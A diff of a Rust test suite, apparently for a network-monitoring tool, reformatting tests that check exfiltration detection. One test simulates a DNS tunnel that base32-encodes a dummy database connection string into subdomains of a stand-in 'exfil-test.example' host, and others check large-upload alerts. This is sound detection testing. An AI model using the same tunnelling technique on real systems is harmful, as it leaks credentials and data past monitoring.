@@ -145,7 +145,8 @@ fn tunnel(n: usize) {
         .set_read_timeout(Some(Duration::from_secs(5)))
         .unwrap();
     let client = UdpSocket::bind("127.0.0.1:0").unwrap();
-    let secret = b"postgres://admin:S3cr3t-passw0rd@db.internal:5432/customers?sslmode=disable&rows=all";
+    let secret =
+        b"postgres://admin:S3cr3t-passw0rd@db.internal:5432/customers?sslmode=disable&rows=all";
     for i in 0..n {
         let piece = &secret[(i * 7) % (secret.len() - 30)..][..30];
         let name = format!("{}.{i}.t.exfil-test.example", base32(piece));
@@ -292,9 +293,8 @@ fn flows_to(events: &[Event], pid: u32, to: SocketAddrV4) -> Vec<&Event> {
         .iter()
         .filter(|e| e.evt_type == EvtType::Flow && e.proc.pid == pid)
         .filter(|e| {
-            e.fd.as_ref().is_some_and(|f| {
-                f.rip == Some((*to.ip()).into()) && f.rport == Some(to.port())
-            })
+            e.fd.as_ref()
+                .is_some_and(|f| f.rip == Some((*to.ip()).into()) && f.rport == Some(to.port()))
         })
         .collect()
 }
@@ -314,8 +314,14 @@ fn a_50_mb_upload_is_one_flow_within_1_percent_and_fires_the_upload_rule() {
     let (pid, to, events) = run_upload(15, sent, FlowCounting::Auto);
     let flows = flows_to(&events, pid, to);
     assert!(!flows.is_empty(), "no flow of the uploader {pid}");
-    let out: u64 = flows.iter().map(|e| e.flow.as_ref().unwrap().bytes_out).sum();
-    let inb: u64 = flows.iter().map(|e| e.flow.as_ref().unwrap().bytes_in).sum();
+    let out: u64 = flows
+        .iter()
+        .map(|e| e.flow.as_ref().unwrap().bytes_out)
+        .sum();
+    let inb: u64 = flows
+        .iter()
+        .map(|e| e.flow.as_ref().unwrap().bytes_in)
+        .sum();
     let diff = out.abs_diff(sent) as f64 / sent as f64;
     assert!(diff <= 0.01, "bytes_out {out} vs {sent} sent");
     assert_eq!(inb, 8, "the sink's 8-byte answer");
@@ -334,7 +340,10 @@ fn a_1_mb_upload_is_counted_but_does_not_fire() {
         .iter()
         .map(|e| e.flow.as_ref().unwrap().bytes_out)
         .sum();
-    assert!(out.abs_diff(sent) * 100 <= sent, "bytes_out {out} vs {sent}");
+    assert!(
+        out.abs_diff(sent) * 100 <= sent,
+        "bytes_out {out} vs {sent}"
+    );
     let alerts = alerts(&events);
     assert!(fired(&alerts, UPLOAD_RULE, pid).is_empty(), "{alerts:#?}");
 }
@@ -345,8 +354,14 @@ fn syscall_exit_counting_gives_the_same_bytes() {
     let sent = 40 * 1024 * 1024 + 123;
     let (pid, to, events) = run_upload(17, sent, FlowCounting::Syscalls);
     let flows = flows_to(&events, pid, to);
-    let out: u64 = flows.iter().map(|e| e.flow.as_ref().unwrap().bytes_out).sum();
-    let inb: u64 = flows.iter().map(|e| e.flow.as_ref().unwrap().bytes_in).sum();
+    let out: u64 = flows
+        .iter()
+        .map(|e| e.flow.as_ref().unwrap().bytes_out)
+        .sum();
+    let inb: u64 = flows
+        .iter()
+        .map(|e| e.flow.as_ref().unwrap().bytes_in)
+        .sum();
     assert_eq!((out, inb), (sent, 8), "fallback counts of {pid}");
     let alerts = alerts(&events);
     assert_eq!(fired(&alerts, UPLOAD_RULE, pid).len(), 1, "{alerts:#?}");
@@ -382,7 +397,11 @@ fn a_dns_tunnel_fires_and_ordinary_lookups_do_not() {
     std::fs::create_dir_all(&tmp).unwrap();
     let resolv = tmp.join("resolv.conf");
     let nss = tmp.join("nsswitch.conf");
-    std::fs::write(&resolv, "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n").unwrap();
+    std::fs::write(
+        &resolv,
+        "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
+    )
+    .unwrap();
     std::fs::write(&nss, "hosts: files dns\n").unwrap();
     let names = [
         "www.example.com",
@@ -454,7 +473,11 @@ fn a_dns_tunnel_fires_and_ordinary_lookups_do_not() {
         .and_then(|f| f.rip);
     assert_eq!(server, Some("127.0.0.1".parse().unwrap()));
     let alerts = alerts(&events);
-    assert_eq!(fired(&alerts, TUNNEL_RULE, tunnel_pid).len(), 1, "{alerts:#?}");
+    assert_eq!(
+        fired(&alerts, TUNNEL_RULE, tunnel_pid).len(),
+        1,
+        "{alerts:#?}"
+    );
     let on_getent: Vec<_> = alerts
         .iter()
         .filter(|a| a.rule.starts_with("DNS") && a.output.contains("cmd=getent"))
